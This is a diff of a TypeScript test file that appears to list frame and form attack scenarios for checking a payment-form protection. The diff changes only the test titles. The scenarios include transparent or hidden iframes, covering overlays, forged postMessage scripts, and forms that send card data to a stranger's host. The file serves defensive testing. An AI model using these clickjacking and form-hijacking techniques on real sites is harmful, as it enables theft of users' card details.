@@ -32,7 +32,7 @@ export const frameAttacks: readonly Attack[] = [
     pages: (at) => ({ shop: frame(at('stranger')), stranger: frame(at('shop', '/later')), 'shop/later': cardForm() }),
   },
   {
-    title: 'a frame’s host only begins like the provider’s',
+    title: 'the host of a frame only begins like the provider’s',
     pages: (at) => ({ shop: frame(at('resembling')), resembling: cardForm() }),
   },
   {
@@ -51,16 +51,16 @@ export const frameAttacks: readonly Attack[] = [
     pages: (at) => ({ shop: frame(at('pay'), 'sandbox="allow-scripts"'), pay: cardForm() }),
   },
   { title: 'the provider’s frame is transparent', pages: inFrame('opacity:0') },
-  { title: 'the provider’s frame is all but transparent', pages: inFrame('opacity:.04') },
-  { title: 'the provider’s frame is of no size', pages: inFrame('width:2px;height:2px') },
-  { title: 'the provider’s frame is out of the window', pages: inFrame('position:absolute;left:-9000px') },
+  { title: 'the provider’s frame is nearly transparent', pages: inFrame('opacity:.04') },
+  { title: 'the provider’s frame is two pixels in size', pages: inFrame('width:2px;height:2px') },
+  { title: 'the provider’s frame is outside the window', pages: inFrame('position:absolute;left:-9000px') },
   { title: 'the provider’s frame is clipped away', pages: inFrame('clip-path:inset(50%)') },
   {
-    title: 'the provider’s frame lies under a picture',
+    title: 'the provider’s frame lies under a box',
     pages: inFrame('', '<div style="position:absolute;inset:0;background:#fff">Free gift</div>'),
   },
   {
-    title: 'the provider’s frame lies under a picture that lets clicks through',
+    title: 'the provider’s frame lies under a box that lets clicks through',
     pages: inFrame('', '<div style="position:absolute;inset:0;background:#fff;pointer-events:none">Free gift</div>'),
   },
   {
@@ -69,7 +69,7 @@ export const frameAttacks: readonly Attack[] = [
     meanwhile: (page) => page.evaluate(() => (document.getElementById('f')!.style.opacity = '0')),
   },
   {
-    title: 'the provider’s frame goes to a stranger after the confirmation',
+    title: 'the shop navigates the provider’s frame to a stranger’s site after the confirmation',
     pages: (at) => ({ ...inFrame('')(at), stranger: cardForm() }),
     meanwhile: (page, at) =>
       leadFrame(page, at('stranger'), () =>
@@ -85,7 +85,7 @@ export const frameAttacks: readonly Attack[] = [
       ),
   },
   {
-    title: 'the provider’s frame is taken away and a stranger’s put in its place',
+    title: 'the provider’s frame is replaced by a stranger’s after the confirmation',
     pages: (at) => ({ ...inFrame('')(at), stranger: cardForm() }),
     meanwhile: (page, at) =>
       leadFrame(page, at('stranger'), () =>
@@ -98,7 +98,7 @@ export const frameAttacks: readonly Attack[] = [
       ),
   },
   {
-    title: 'the shop’s page knocks at a hidden provider’s frame by itself',
+    title: 'the shop’s page forges knocks at a hidden provider’s frame',
     pages: (at) => {
       const { shop, pay } = inFrame('opacity:0')(at)
       const knocking = `<script>setInterval(() => { for (const f of document.querySelectorAll('iframe')) f.contentWindow.postMessage({ moonKnock: crypto.randomUUID() }, '*') }, 20)</script>`
@@ -106,7 +106,7 @@ export const frameAttacks: readonly Attack[] = [
     },
   },
   {
-    title: 'a stranger’s frame says that it has heard a knock',
+    title: 'a stranger’s frame pretends to have received a knock',
     pages: (at) => ({
       shop: frame(at('stranger')),
       stranger: `${cardForm()}<script>setInterval(() => { for (const w of [window, parent]) w.postMessage({ moonKnock: crypto.randomUUID(), heard: true }, '*') }, 20)</script>`,
@@ -114,17 +114,17 @@ export const frameAttacks: readonly Attack[] = [
   },
   { title: 'the shop was loaded without encryption', top: 'plain', pages: () => ({ plain: cardForm() }) },
   {
-    title: 'the form of the shop is sent to a stranger',
+    title: 'the shop’s form submits to a stranger',
     pages: (at) => ({ shop: cardForm({ form: `action="${at('stranger')}" method="post"` }) }),
   },
   {
-    title: 'a button beside the form of the shop sends it to a stranger',
+    title: 'a button outside the shop’s form submits it to a stranger',
     pages: (at) => ({
       shop: `${cardForm({ form: 'id="f" action="/pay"' })}<button form="f" formaction="${at('stranger')}">Pay</button>`,
     }),
   },
   {
-    title: 'the form has a field that is called as its address is',
+    title: 'a field named action hides the action of the form',
     pages: (at) => ({
       shop: cardForm({ form: `action="${at('stranger')}"` }).replace(
         '</form>',
@@ -133,7 +133,7 @@ export const frameAttacks: readonly Attack[] = [
     }),
   },
   {
-    title: 'the form in the provider’s frame is sent to a stranger',
+    title: 'the form in the provider’s frame submits to a stranger',
     pages: (at) => ({ shop: frame(at('pay')), pay: cardForm({ form: `action="${at('stranger')}" method="post"` }) }),
   },
 ]
